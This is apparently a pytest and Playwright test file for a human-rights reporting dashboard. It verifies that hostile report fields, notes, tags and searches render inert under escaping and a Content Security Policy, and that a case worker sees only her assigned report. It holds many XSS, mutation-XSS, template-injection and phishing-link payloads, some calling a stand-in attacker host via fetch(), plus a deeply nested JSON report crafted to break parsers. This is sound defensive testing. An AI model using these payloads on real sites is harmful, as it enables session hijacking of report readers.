"""The case workers' dashboard in a real browser: hostile words stay words, and the whole way
from an invitation to a case worker reading the one report assigned to them.

Anyone can send a report, so everything a report holds is written by a possible attacker who
wants script in the browser of the people who read reports: their session opens every report
of the desk. A payload that ran would show as a dialog, a global it set, a request to
another origin, a page error, or markup the page never had; and each payload must still be
there to read, as the very characters that were sent.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit
from uuid import UUID

import pytest
from playwright.sync_api import BrowserContext, Locator, Page, Response
from playwright.sync_api import Error as PlaywrightError
from sqlalchemy import select

from hrd_reports.crypto import totp
from hrd_reports.models import Destroyer, Role, WithdrawnReport
from tests.browser.conftest import LiveServer
from tests.browser.support import (
    PAGE_TIMEOUT_MS,
    Recorder,
    canary,
    fill_report,
    record_dialogs,
    send_and_read_receipt,
)
from tests.dashboard_support import Clock, Staff, enrol, install_clock
from tests.helpers import Desk, Person

pytestmark = pytest.mark.browser

NewContext = Callable[..., BrowserContext]

# --- Payloads ------------------------------------------------------------------------------

# ``.invalid`` never resolves (RFC 6761), and every request off the server's origin is
# answered by the test before it leaves (``guard_origin``); a payload that ran is still seen
# trying.
ATTACKER = "https://attacker.invalid"


def _runs(label: str) -> str:
    """What each payload does if it runs: a global the test reads, a request to another
    origin, and a dialog. Back-ticks only, so it fits in a single- or double-quoted attribute."""
    return f"window.__xss=`{label}`;fetch(`{ATTACKER}/{label}`);alert(`{label}`)"


# Each at most 200 characters, so that it fits the report form's shortest free-text field.
PAYLOADS: dict[str, str] = {
    "script": f"<script>{_runs('script')}</script>",
    "img onerror": f'<img src=x onerror="{_runs("img")}">',
    "body onload": f'<body onload="{_runs("body")}">',
    # Breaks out of a double-quoted attribute (the search box shows the search in one).
    "attribute, double quote": f'" autofocus onfocus="{_runs("dq")}" x="',
    "attribute, single quote": f"' autofocus onfocus='{_runs('sq')}' x='",
    "svg onload": f'<svg onload="{_runs("svg")}"></svg>',
    "svg script": f"<svg><script>{_runs('svgscript')}</script></svg>",
    "javascript: link": f'<a href="javascript:{_runs("link")}">open the evidence</a>',
    "javascript: URL": f"javascript:{_runs('url')}",
    "details ontoggle": f'<details open ontoggle="{_runs("details")}">',
    # Mutation XSS: markup that a sanitiser and the parser read differently.
    "math mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{_runs("mxss")}">',
    # Without script at all: a stylesheet, or a refresh to another origin, would leak the
    # reader's address and the moment they read.
    "style import": f"<style>@import url({ATTACKER}/style.css);</style>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={ATTACKER}/meta">',
    # Template injection: read as a template, this would print 49 and "[ran]" (each field is
    # compared whole with what was sent, so either fails).
    "template": "{{7*7}} {% if true %}[ran]{% endif %} ${7*7} #{7*7} <%= 7*7 %> {{ config }}",
}

# Tags: at most 40 characters each and no commas (commas separate tags). The page shows them
# back inside an input's value="...", so most of these try to leave that attribute.
TAG_PAYLOADS = [
    '" autofocus onfocus=__xss=`tag1` x="',
    "' autofocus onfocus=__xss=`tag2` x='",
    '"><img src=//attacker.invalid/tag3>',
    "<script>__xss=`tag4`</script>",
    "<svg onload=__xss=`tag5`>",
    "javascript:__xss=`tag6`",
    "{{7*7}} ${7*7} {% print 7*7 %}",
]

# Markup that no dashboard page has of its own, so any of it on one came from a payload.
INJECTED_MARKUP = """() => {
  const found = [];
  const urls = ["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith("on")) found.push(`${el.localName}[${attr.name}]`);
      if (!urls.includes(attr.name)) continue;
      // A link elsewhere needs no script to harm: one click tells that origin who reads.
      const url = new URL(attr.value, document.baseURI);
      const elsewhere = url.protocol !== "data:" && url.origin !== location.origin;
      if (url.protocol === "javascript:" || elsewhere)
        found.push(`${el.localName}[${attr.name}=${attr.value.slice(0, 40)}]`);
    }
  }
  // The dashboard's own scripts (the report page's copy button, the case file's print button)
  // are the only scripts its pages have.
  const tags = "script:not([src='/static/js/copy.js']):not([src='/static/js/print.js']), "
    + "iframe, frame, object, embed, svg, "
    + "math, style, base, img, details, "
    + "meta[http-equiv], link:not([rel=stylesheet]):not([rel=icon])";
  for (const el of document.querySelectorAll(tags)) found.push(el.outerHTML.slice(0, 80));
  return found;
}"""


# --- Time and people -----------------------------------------------------------------------


@pytest.fixture
def fake_clock(monkeypatch: pytest.MonkeyPatch) -> Clock:
    """The services' clock, moved by the test (the server runs in a thread of this process):
    one-time codes are spent per 30-second step, and each sign-in moves on by a step instead
    of the test waiting for a real one."""
    return install_clock(monkeypatch)


@pytest.fixture
def cora(desk: Desk, admin: Person, fake_clock: Clock) -> Staff:
    """A coordinator: vetted, so she holds the desk keys and reads every report."""
    return enrol(desk, desk.add_vetted("cora", Role.COORDINATOR, by=admin), Role.COORDINATOR)


def sign_in(page: Page, server: LiveServer, staff: Staff, fake_clock: Clock) -> None:
    """Sign in through the form, with a code of a step nobody has used yet."""
    fake_clock.advance(totp.STEP_SECONDS)
    page.goto(server.url("/dashboard/login"))
    page.fill("#name", staff.person.name)
    page.fill("#password", staff.person.password)
    page.fill("#code", staff.code(fake_clock.now))
    with page.expect_response(
        lambda response: response.request.method == "POST" and "/dashboard/login" in response.url
    ) as answer:
        page.get_by_role("button", name="Sign in").click()
    assert answer.value.status == 303, page.locator("main").inner_text()
    # Key holders land on the report list, case workers on their worklist.
    page.wait_for_url(re.compile(r"/dashboard(/reports|/users)?(\?|$)"))


# --- Watching a page for a payload that ran ------------------------------------------------


def _off_origin(recorder: Recorder, origin: str) -> list[str]:
    """Every request the context made anywhere but to the server (data: URLs are no request)."""
    host = urlsplit(origin)
    return [
        request.url
        for request in recorder.requests
        if urlsplit(request.url)[:2] != host[:2] and not request.url.startswith("data:")
    ]


def guard_origin(context: BrowserContext, origin: str) -> None:
    """Nothing reaches the network beyond this server; the Recorder still sees the attempt.

    Answered with "204 No Content", which a browser does not navigate to: a payload that
    sends the page elsewhere leaves it in place, for the rest of the checks to read.
    """
    context.route(
        lambda url: not url.startswith(origin + "/"), lambda route: route.fulfill(status=204)
    )


@dataclass
class Watched:
    """A signed-in page, and everything that would show a payload ran in it."""

    page: Page
    recorder: Recorder
    dialogs: list[str]
    origin: str

    def open(self, path: str) -> Response:
        response = self.page.goto(self.origin + path)
        assert response is not None
        assert response.status == 200, f"{path}: {response.status}"
        return response

    def _read(self, script: str) -> Any:
        try:
            return self.page.evaluate(script)
        except PlaywrightError as exc:
            # A payload that reloads or leaves the page takes the page being read with it.
            return f"the page went away while being read: {exc.message.splitlines()[0]}"

    def assert_inert(self, where: str) -> None:
        """Nothing ran and nothing was injected; every problem is named at once."""
        problems = {
            "dialogs": self.dialogs,
            "requests to another origin": _off_origin(self.recorder, self.origin),
            "page errors": self.recorder.page_errors,
            "console errors": self.recorder.console_errors,
            "window.__xss": self._read("() => window.__xss"),
            "markup from a payload": self._read(INJECTED_MARKUP),
        }
        found = {what: seen for what, seen in problems.items() if seen}
        assert not found, f"{where}: {json.dumps(found, indent=1)}"


Watch = Callable[..., Watched]


@pytest.fixture
def watch(
    new_context: NewContext, live_server: LiveServer, cora: Staff, fake_clock: Clock
) -> Watch:
    """``watch(policy=...)``: Cora, signed in, in a browser of her own, the Content Security
    Policy enforced as deployed or ignored."""

    def signed_in(*, policy: bool) -> Watched:
        context = new_context(bypass_csp=not policy)
        context.set_default_timeout(PAGE_TIMEOUT_MS)
        recorder = Recorder()
        recorder.attach(context)
        guard_origin(context, live_server.origin)
        page = context.new_page()
        dialogs = record_dialogs(page)
        sign_in(page, live_server, cora, fake_clock)
        return Watched(page, recorder, dialogs, live_server.origin)

    return signed_in


@pytest.fixture
def watched(watch: Watch) -> Watched:
    """Cora's browser, ignoring the Content Security Policy.

    The policy (no inline script, nothing from elsewhere) is the second layer; switched off
    here, the template's escaping is all that stands, so a payload that got through it would
    run and be seen. ``test_dashboard_pages_keep_the_strict_policy`` checks that the second
    layer is still sent.
    """
    return watch(policy=False)


def submit_content(desk: Desk, content: dict[str, Any]) -> UUID:
    """A report as the reporter's browser sends it: the server only ever sees ciphertext, so
    it cannot check what is inside; the dashboard must treat every field as hostile."""
    return desk.submit(json.dumps(content, ensure_ascii=False).encode("utf-8")).report_id


def hostile_report(payload: str) -> dict[str, Any]:
    """The payload in every free-text field of the report form."""
    return {
        "v": 1,
        "incident_types": ["death_threat"],
        "location": {"district": payload},
        "perpetrator": {"identifiers": payload},
        "narrative": payload,
    }


def summary_of(narrative: str) -> str:
    """What the list shows for a report of one death threat: its label, never its code."""
    return "Death threat: " + " ".join(narrative.split())[:60]


def _field(page: Page, label: str) -> str:
    """The text of one field of the report page, found by its label."""
    field = page.locator(f"dl[data-testid=report] dt:text-is('{label}') + dd")
    assert field.is_visible(), label
    return field.text_content() or ""


def follow(page: Page, target: Locator) -> None:
    """Click a link or a form's button and wait for the page it leads to (several lead back
    to the same address, so waiting for an address would not do)."""
    with page.expect_navigation():
        target.click()


# --- Stored XSS renders inert --------------------------------------------------------------


def test_dashboard_pages_keep_the_strict_policy(
    page: Page, live_server: LiveServer, cora: Staff, fake_clock: Clock, desk: Desk
) -> None:
    # The other tests switch the policy off in the browser; it must still be sent, so that a
    # slip in escaping would meet a second wall in a real browser.
    report_id = submit_content(desk, hostile_report("a plain report"))
    sign_in(page, live_server, cora, fake_clock)
    for path in ("/dashboard/reports", f"/dashboard/reports/{report_id}"):
        response = page.goto(live_server.url(path))
        assert response is not None
        policy = response.headers["content-security-policy"]
        assert "script-src 'self'" in policy.split("; "), policy
        assert "default-src 'none'" in policy.split("; "), policy
        assert "unsafe-inline" not in policy


def test_report_list_and_pages_show_hostile_fields_as_inert_text(
    watched: Watched, desk: Desk
) -> None:
    reports = {
        label: submit_content(desk, hostile_report(text)) for label, text in PAYLOADS.items()
    }

    # Each page is checked for what ran first, so that a failure names everything that did.
    watched.open("/dashboard/reports")
    watched.assert_inert("the report list")
    for label, text in PAYLOADS.items():
        # The start of each narrative is in the list, as the characters that were sent.
        link = watched.page.locator(f"tr[data-report-id='{reports[label]}'] a")
        assert link.is_visible(), label
        assert link.text_content() == summary_of(text), label

    for label, text in PAYLOADS.items():
        watched.open(f"/dashboard/reports/{reports[label]}")
        watched.assert_inert(f"the page of the report with the {label} payload")
        assert _field(watched.page, "What happened") == text, label
        assert _field(watched.page, "Where").strip() == text, label
        assert _field(watched.page, "Identifiers") == text, label


def test_report_search_for_hostile_text_lists_it_as_inert_text(
    watched: Watched, desk: Desk
) -> None:
    reports = {
        label: submit_content(desk, hostile_report(text)) for label, text in PAYLOADS.items()
    }
    plain = submit_content(desk, hostile_report(canary("plain")))

    watched.open("/dashboard/reports")
    watched.assert_inert("the report list")
    for label, text in PAYLOADS.items():
        # Typed into the search box, as a case worker would paste a suspicious phrase.
        watched.page.fill("#q", text)
        follow(watched.page, watched.page.get_by_role("button", name="Filter"))
        watched.assert_inert(f"the list searched for the {label} payload")
        # The search is shown back in its box, whole: it never left the value="..." it is in.
        assert watched.page.input_value("#q") == text, label
        link = watched.page.locator(f"tr[data-report-id='{reports[label]}'] a")
        assert link.is_visible(), label
        assert link.text_content() == summary_of(text), label
        # The search did filter: the plain report does not match any payload.
        assert watched.page.locator(f"tr[data-report-id='{plain}']").count() == 0, label


def test_notes_and_tags_added_in_the_dashboard_show_as_inert_text(
    watched: Watched, desk: Desk
) -> None:
    report_id = submit_content(desk, hostile_report("a report the desk annotates"))
    page = watched.page
    watched.open(f"/dashboard/reports/{report_id}")

    for label, text in PAYLOADS.items():
        page.fill("#note", text)
        follow(page, page.get_by_role("button", name="Add the note"))
        watched.assert_inert(f"the report page after a note with the {label} payload")
    page.fill("#tags", ", ".join(TAG_PAYLOADS))
    follow(page, page.get_by_role("button", name="Save tags"))

    # Opened afresh: what was stored, read back, as the characters that were typed.
    watched.open(f"/dashboard/reports/{report_id}")
    watched.assert_inert("the report page with hostile notes and tags")
    notes = page.locator("article.note p.text")
    assert notes.all_text_contents() == list(PAYLOADS.values())
    assert all(note.is_visible() for note in notes.all())
    assert page.input_value("#tags") == ", ".join(TAG_PAYLOADS)

    # Tags are searched too; the report is found by one, and the list stays inert.
    page.goto(watched.origin + "/dashboard/reports")
    page.fill("#q", TAG_PAYLOADS[0])
    follow(page, page.get_by_role("button", name="Filter"))
    watched.assert_inert("the list searched for a hostile tag")
    assert page.locator(f"tr[data-report-id='{report_id}']").is_visible()


# --- The whole flow ------------------------------------------------------------------------


def new_watched_context(new_context: NewContext, server: LiveServer) -> tuple[Page, Recorder]:
    """A context of its own (no cookie shared with anyone else's), as deployed (the policy
    on), recorded, and kept off the network beyond the server."""
    context = new_context()
    context.set_default_timeout(PAGE_TIMEOUT_MS)
    recorder = Recorder()
    recorder.attach(context)
    guard_origin(context, server.origin)
    return context.new_page(), recorder


def report_through_the_form(page: Page, server: LiveServer, narrative: str) -> None:
    """A reporter's whole visit: the form, the encrypted submission, the receipt written
    down, and "Finish" (which leaves without the are-you-sure dialog)."""
    page.goto(server.url("/report"))
    fill_report(page, narrative)
    send_and_read_receipt(page)
    page.check("[data-testid=receipt-confirm]")
    page.click("#receipt-done")
    page.wait_for_url(re.compile(r"/report/done\b"))


def row_of(page: Page, text: str) -> Locator:
    return page.locator("tr[data-report-id]", has_text=text)


def test_invited_case_worker_reads_only_the_report_assigned_to_them(
    new_context: NewContext,
    live_server: LiveServer,
    desk: Desk,
    admin: Person,
    cora: Staff,
    fake_clock: Clock,
) -> None:
    admin_staff = enrol(desk, admin, Role.ADMIN)
    admin_page, admin_log = new_watched_context(new_context, live_server)
    cora_page, cora_log = new_watched_context(new_context, live_server)
    wafa_page, wafa_log = new_watched_context(new_context, live_server)
    reporter_page, reporter_log = new_watched_context(new_context, live_server)

    # The administrator invites Wafa as a case worker; the link is shown once, on the page.
    sign_in(admin_page, live_server, admin_staff, fake_clock)
    admin_page.goto(live_server.url("/dashboard/users"))
    admin_page.fill("#name", "wafa")
    admin_page.select_option("#role", "case_worker")
    follow(admin_page, admin_page.get_by_role("button", name="Create the invitation"))
    link = admin_page.locator("[data-testid=invitation-link]").text_content() or ""
    assert link.startswith(live_server.url("/dashboard/invitation/")), link

    # Wafa, in her own browser, chooses a password and enrols her authenticator app from the
    # key the page shows as text (the QR code holds the same).
    wafa_page.goto(link)
    assert wafa_page.locator("main p strong").first.text_content() == "wafa"
    secret = totp.parse_secret_text(
        wafa_page.locator("[data-testid=totp-secret]").text_content() or ""
    )
    assert secret is not None
    wafa = Staff(Person("wafa", "olive groves along the tigris 1987"), secret)
    wafa_page.fill("#password", wafa.person.password)
    wafa_page.fill("#password_again", wafa.person.password)
    wafa_page.fill("#code", wafa.code(fake_clock.now))
    follow(wafa_page, wafa_page.get_by_role("button", name="Create my account"))
    assert "A coordinator will vet" in wafa_page.get_by_test_id("welcome").inner_text()

    # Cora, a key holder, vets her on the people page.
    sign_in(cora_page, live_server, cora, fake_clock)
    follow(cora_page, cora_page.get_by_role("link", name="People"))
    vetted = cora_page.locator("tr[data-user=wafa] td").nth(2)
    assert vetted.text_content() == "no"
    follow(cora_page, cora_page.locator("tr[data-user=wafa]").get_by_role("button", name="Vet"))
    assert vetted.text_content() == "yes"

    # Wafa signs in (her enrolment spent a code: sign_in moves to the next step). Nothing is
    # assigned to her yet, so she sees nothing.
    sign_in(wafa_page, live_server, wafa, fake_clock)
    assert wafa_page.get_by_text("No open report is assigned to you.").is_visible()
    follow(wafa_page, wafa_page.get_by_role("link", name="Reports", exact=True))
    assert wafa_page.locator("tr[data-report-id]").count() == 0
    assert wafa_page.get_by_text("No report matches.").is_visible()

    # A reporter sends two reports through the real form, in a browser that shares nothing
    # with the desk's.
    hers, other = canary("assigned"), canary("not-assigned")
    report_through_the_form(reporter_page, live_server, hers)
    report_through_the_form(reporter_page, live_server, other)

    # Both reach Cora's list; she triages one and assigns it to Wafa.
    follow(cora_page, cora_page.get_by_role("link", name="Reports"))
    hers_id = row_of(cora_page, hers).get_attribute("data-report-id")
    other_id = row_of(cora_page, other).get_attribute("data-report-id")
    assert hers_id
    assert other_id
    assert hers_id != other_id
    follow(cora_page, row_of(cora_page, hers).get_by_role("link"))
    assert cora_page.url.startswith(live_server.url(f"/dashboard/reports/{hers_id}"))
    assert _field(cora_page, "What happened") == hers
    cora_page.select_option("#status", "triage")
    cora_page.select_option("#priority", "p1")
    follow(cora_page, cora_page.get_by_role("button", name="Save", exact=True))
    assert cora_page.input_value("#status") == "triage"
    assert cora_page.input_value("#priority") == "p1"
    cora_page.select_option("#assignee", "wafa")
    follow(cora_page, cora_page.get_by_role("button", name="Assign", exact=True))
    assert cora_page.locator("[data-testid=assignee]").text_content() == "wafa"
    follow(cora_page, cora_page.get_by_role("link", name="Reports"))
    cells = row_of(cora_page, hers).locator("td").all_text_contents()
    assert cells[2:] == ["in triage", "priority 1, immediate", "wafa"], cells

    # Wafa's list now holds that one report, and not the other.
    wafa_page.reload()
    assert wafa_page.locator("tr[data-report-id]").count() == 1
    assert row_of(wafa_page, hers).get_attribute("data-report-id") == hers_id
    assert other not in wafa_page.content()
    follow(wafa_page, row_of(wafa_page, hers).get_by_role("link"))
    assert wafa_page.url.startswith(live_server.url(f"/dashboard/reports/{hers_id}"))
    assert _field(wafa_page, "What happened") == hers
    # Priority is a coordinator's call: her form does not offer it.
    assert wafa_page.locator("#priority").count() == 0

    # The other report's address, typed in, is refused and shows nothing of it.
    refused = wafa_page.goto(live_server.url(f"/dashboard/reports/{other_id}"))
    assert refused is not None
    assert refused.status in {403, 404}
    assert other not in wafa_page.content()

    # Nobody's browser reached beyond the server, and no page failed.
    for name, log in {
        "admin": admin_log,
        "cora": cora_log,
        "wafa": wafa_log,
        "reporter": reporter_log,
    }.items():
        assert _off_origin(log, live_server.origin) == [], name
        assert log.page_errors == [], name
        # The refusal is the one failed load expected (Chromium logs every 4xx page).
        expected = [f"/dashboard/reports/{other_id}"] if name == "wafa" else []
        assert [e for e in log.console_errors if not any(p in e for p in expected)] == [], name


# --- Choice codes a reporter forged --------------------------------------------------------

# The form offers only fixed choices and a date picker, but the browser builds the report and
# the server sees only ciphertext: a reporter who skips the form can put anything in any field,
# where a choice's code or a date goes included.
FORGED_CODES = {
    "incident_types": [f'<img src=x onerror="{_runs("type")}">'],
    "in_danger_now": f'<img src=x onerror="{_runs("danger")}">',
    "start": {"date": f"<svg onload={_runs('date')}>", "precision": f"<svg onload={_runs('p')}>"},
    "location": {
        "governorate": f'<img src=x onerror="{_runs("governorate")}">',
        "district": "a district",
        "place_type": f"<script>{_runs('place')}</script>",
    },
    "target": {
        "who": f'<img src=x onerror="{_runs("who")}">',
        "sector": f'<img src=x onerror="{_runs("sector")}">',
        "gender": f'<img src=x onerror="{_runs("gender")}">',
        "age_band": f'<img src=x onerror="{_runs("age")}">',
    },
    "perpetrator": {
        "types": [f'<img src=x onerror="{_runs("perpetrator")}">'],
        "identification": f'<img src=x onerror="{_runs("identification")}">',
    },
    "needs": [
        f'<img src=x onerror="{_runs("need")}">',
        f'<meta http-equiv="refresh" content="0;url={ATTACKER}/meta">',
    ],
    "consent": {"share": f'<a href="{ATTACKER}/login">Sign in again to open the attachment</a>'},
}


@pytest.mark.parametrize("policy", [True, False], ids=["policy as deployed", "policy off"])
def test_report_page_shows_forged_choice_codes_as_inert_text(
    watch: Watch, desk: Desk, policy: bool
) -> None:
    # As deployed, the policy stops inline script, but not markup: a link elsewhere, or a
    # refresh to another origin, needs no script. With the policy off, the script runs too.
    watched = watch(policy=policy)
    narrative = canary("forged")
    report_id = submit_content(desk, {"v": 1, **FORGED_CODES, "narrative": narrative})

    watched.open("/dashboard/reports")
    assert watched.page.locator(f"tr[data-report-id='{report_id}']").is_visible()
    watched.assert_inert("the report list with forged codes")

    watched.open(f"/dashboard/reports/{report_id}")
    watched.assert_inert("the page of a report with forged codes")
    # The report is shown, so the check above did not pass on an empty page. A forged code
    # may be shown as text or left out, but it must not become markup.
    assert _field(watched.page, "What happened") == narrative


@pytest.mark.parametrize("code", ["100%", "%(name)s"])
def test_report_page_with_a_percent_sign_in_a_forged_code_still_opens(
    watched: Watched, desk: Desk, code: str
) -> None:
    # A code goes through gettext, which fills in %-placeholders: a reporter must not be
    # able to make their report (or the page that shows it) fail for the desk.
    narrative = canary("percent")
    report_id = submit_content(
        desk,
        {
            "v": 1,
            "incident_types": ["death_threat"],
            "location": {"governorate": code},
            "narrative": narrative,
        },
    )
    watched.open(f"/dashboard/reports/{report_id}")
    watched.assert_inert("the page of a report with a percent sign in a code")
    assert _field(watched.page, "What happened") == narrative


# --- A poisoned report, shown as received and destroyed by a key holder ---------------------


def test_key_holder_destroys_a_poisoned_report_from_its_page(watch: Watch, desk: Desk) -> None:
    # As deployed (the policy on): the report a crafted client sealed once broke the list, its
    # search and its page for everyone, until its reporter chose to withdraw it.
    watched = watch(policy=True)
    poisoned = desk.submit(b'[[["<img src=x onerror=alert(1)>"' + b"[" * 60_000 + b"]" * 60_003)
    honest = submit_content(desk, hostile_report(canary("honest")))

    watched.open("/dashboard/reports")
    row = watched.page.locator(f"tr[data-report-id='{poisoned.report_id}']")
    assert row.get_by_test_id("off-form").is_visible()
    assert watched.page.get_by_test_id("off-form-count").is_visible()
    follow(watched.page, row.get_by_role("link"))
    watched.assert_inert("the page of the poisoned report")
    shown = watched.page.get_by_test_id("as-received").text_content() or ""
    assert shown.startswith('[[["<img src=x onerror=alert(1)>"[[[')
    assert watched.page.get_by_test_id("as-received-cut").is_visible()

    # Without the confirmation the browser does not send the form.
    watched.page.get_by_test_id("destroy-reason").fill("crafted to break the report list")
    watched.page.get_by_test_id("destroy").click()
    assert f"/dashboard/reports/{poisoned.report_id}" in watched.page.url
    assert watched.page.get_by_test_id("as-received").is_visible()
    watched.page.get_by_test_id("destroy-confirm").check()
    follow(watched.page, watched.page.get_by_test_id("destroy"))

    assert re.search(r"/dashboard/reports(\?|$)", watched.page.url), watched.page.url
    assert watched.page.get_by_test_id("done").inner_text() == (
        "The report was destroyed, with its messages, notes and files."
    )
    watched.assert_inert("the list after the destruction")
    assert watched.page.locator(f"tr[data-report-id='{poisoned.report_id}']").count() == 0
    assert watched.page.locator(f"tr[data-report-id='{honest}']").is_visible()
    assert watched.page.get_by_test_id("off-form-count").count() == 0
    gone = watched.page.goto(f"{watched.origin}/dashboard/reports/{poisoned.report_id}")
    assert gone is not None
    assert gone.status == 404
    with desk.session() as session:
        tombstone = session.execute(select(WithdrawnReport)).scalar_one()
    assert (tombstone.public_id, tombstone.destroyed_by) == (poisoned.report_id, Destroyer.DESK)
